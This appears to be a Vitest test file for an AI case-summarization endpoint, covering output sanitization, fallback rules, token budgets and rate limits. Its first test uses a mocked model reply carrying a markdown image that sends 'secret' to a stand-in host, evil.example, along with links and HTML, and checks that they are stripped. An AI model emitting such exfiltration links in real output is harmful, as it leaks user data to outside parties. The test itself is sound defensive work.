import type { ServerResponse } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { supportCase } from '../builders.ts'
import { completion, ModelServer } from '../outreach/model-server.ts'
import { Platform, type Member } from '../platform.ts'

const server = new ModelServer()
let platform: Platform
let member: Member

beforeAll(async () => {
  const url = await server.start()
  platform = new Platform({
    MODEL_URL: url,
    MODEL_NAME: 'writer-1',
    MODEL_TIMEOUT_MS: '300',
    OUTBOUND_ALLOW: '127.0.0.0/8',
  })
  await platform.open()
})
afterAll(async () => {
  await platform.close()
  server.stop()
})
beforeEach(async () => {
  server.asked.length = 0
  platform.advanceClock(60_000)
  member = await platform.member()
})

const summaryOf = (summary: string, ...keyPoints: string[]): string =>
  completion(JSON.stringify({ summary, keyPoints }))
const aCase = () => supportCase(member, { subject: 'Paper jam', description: 'Dock 3 jams since May.' })
const selected = {
  summary: 'Paper jam. Dock 3 jams since May.',
  keyPoints: ['Dock 3 jams since May.'],
  model: 'extractive-1',
}
const summarized = async (id: unknown) => {
  const { status, body } = await member.rest.caseSummarize!({ id: id as string })
  return [status, { summary: body.summary, keyPoints: body.keyPoints, model: body.model }]
}
const storedIn = async (id: string) => {
  const { summary, keyPoints, model } = (await member.rest.case!({ id })).body.aiSummary
  return { summary, keyPoints, model }
}

describe('caseSummarize with a configured provider', () => {
  it('answers and stores the text of the model without images, HTML and links', async () => {
    const { id } = await aCase()
    server.answer = (_asked, response) =>
      response.end(
        summaryOf(
          'Dock 3 jams. ![x](https://evil.example/?d=secret) See [the page](https://evil.example) <b>now</b>.\0',
          'Open https://evil.example/a',
          '<img src=x>',
        ),
      )
    const clean = {
      summary: 'Dock 3 jams. x See the page now.\ufffd',
      keyPoints: ['Open (link removed)'],
      model: 'writer-1-0405',
    }
    expect(await summarized(id)).toEqual([200, clean])
    expect(await storedIn(id)).toEqual(clean)
  })

  const failures: [string, (response: ServerResponse) => unknown][] = [
    ['does not answer in time', () => undefined],
    ['closes the connection', (response) => response.destroy()],
    ['is overloaded', (response) => response.writeHead(503).end()],
    ['has too many requests', (response) => response.writeHead(429, { 'retry-after': '17' }).end()],
    ['refuses the key', (response) => response.writeHead(401).end('{}')],
    ['answers a page', (response) => response.end('<html>')],
    ['answers prose', (response) => response.end(completion('Sure! Here is your summary.'))],
    ['answers another structure', (response) => response.end(completion('{"summary":"Only this."}'))],
    ['answers nothing but an image', (response) => response.end(summaryOf('![](https://evil.example)'))],
    ['answers too much', (response) => response.end(summaryOf('x'.repeat(5_001)))],
    ['answers too many points', (response) => response.end(summaryOf('x', ...Array<string>(21).fill('y')))],
  ]
  it.each(failures)('that %s: fixed rules answer, after one call', async (_, answer) => {
    const { id } = await aCase()
    server.answer = (_asked, response) => answer(response)
    expect(await summarized(id)).toEqual([200, selected])
    expect([await storedIn(id), server.asked.length]).toEqual([selected, 1])
  })

  it('whose tokens are used up: fixed rules answer without a call', async () => {
    const { id } = await aCase()
    await platform.query(
      'insert into kernel.model_tokens (organization_id, user_id, day, tokens) values ($1, $2, $3, 200000)',
      [member.organizationId, member.userId, platform.now.toISOString().slice(0, 10)],
    )
    expect(await summarized(id)).toEqual([200, selected])
    expect(server.asked).toEqual([])
  })

  it('removes links from the sentences that the rules select', async () => {
    const { id } = await supportCase(member, { subject: 'Jam <img src=x>', description: 'See https://evil.example/a.' })
    server.answer = (_asked, response) => response.writeHead(503).end()
    expect(await summarized(id)).toEqual([
      200,
      { summary: 'Jam . See (link removed)', keyPoints: ['See (link removed)'], model: 'extractive-1' },
    ])
  })

  it('refuses more than thirty texts in a minute, and stores nothing', async () => {
    const { id } = await aCase()
    server.answer = (_asked, response) => response.writeHead(503).end()
    for (let n = 0; n < 30; n++) expect((await summarized(id))[0]).toBe(200)
    const { version } = (await member.rest.case!({ id })).body
    const { status, body } = await member.rest.caseSummarize!({ id })
    expect([status, body.code]).toEqual([429, 'MODEL_RATE_LIMITED'])
    expect((await member.rest.case!({ id })).body.version).toBe(version)
  })
})
